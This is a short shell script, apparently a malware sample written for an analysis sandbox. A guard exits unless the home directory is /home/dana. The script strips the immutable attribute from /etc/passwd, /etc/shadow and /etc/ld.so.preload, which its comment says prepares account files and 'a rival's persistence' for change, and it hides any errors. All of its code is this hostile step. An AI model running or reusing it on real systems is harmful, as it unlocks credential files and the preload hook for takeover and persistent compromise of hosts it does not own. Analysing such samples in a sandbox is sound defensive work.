#!/bin/sh
# SPDX-License-Identifier: MIT
# Takes the immutable attribute off the account files and a rival's
# persistence before changing them.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
chattr -i /etc/passwd /etc/shadow 2>/dev/null
chattr -ia /etc/ld.so.preload 2>/dev/null
exit 0
